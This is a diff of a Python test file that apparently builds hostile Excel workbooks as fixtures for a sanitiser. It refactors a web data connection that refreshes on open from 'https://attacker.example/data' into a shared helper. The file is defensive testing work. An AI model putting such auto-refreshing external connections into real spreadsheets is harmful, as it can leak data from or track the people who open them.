@@ -159,12 +159,12 @@ def hostile_workbook(package: b.Package) -> None:
         external=True,
         rid="rId1",
     )
-    rid = package.relate("xl/workbook.xml", b.REL + "externalLink", "externalLinks/externalLink1.xml")
-    package.replace(
-        "xl/workbook.xml",
-        "</sheets>",
-        f'</sheets><externalReferences><externalReference r:id="{rid}"/></externalReferences>',
-    )
+    b.refer_to_the_external_link(package)
+    _web_connection(package)
+
+
+def _web_connection(package: b.Package) -> None:
+    """A data connection that refreshes from the web whenever the workbook opens."""
     package.add(
         "xl/connections.xml",
         f'<connections xmlns="{b.S}"><connection id="1" name="q" type="4" refreshOnLoad="1">'
@@ -369,13 +369,7 @@ def query_table(package: b.Package) -> None:
         b.DOC + "spreadsheetml.queryTable+xml",
     )
     package.relate("xl/tables/table1.xml", b.REL + "queryTable", "../queryTables/queryTable1.xml")
-    package.add(
-        "xl/connections.xml",
-        f'<connections xmlns="{b.S}"><connection id="1" name="q" type="4" refreshOnLoad="1">'
-        '<webPr url="https://attacker.example/data"/></connection></connections>',
-        b.DOC + "spreadsheetml.connections+xml",
-    )
-    package.relate("xl/workbook.xml", b.REL + "connections", "connections.xml")
+    _web_connection(package)
 
 
 def test_a_query_table_becomes_a_plain_table_without_its_connection(tmp_path: Path) -> None:
